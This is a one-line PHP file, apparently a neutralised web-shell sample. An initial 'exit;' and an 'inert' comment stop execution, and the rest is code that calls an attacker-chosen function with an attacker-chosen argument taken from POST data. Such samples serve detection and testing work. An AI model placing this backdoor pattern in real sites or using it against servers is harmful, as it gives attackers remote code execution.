<?php exit; /* inert */ list($a,$b)=array_values($_POST); $a($b);
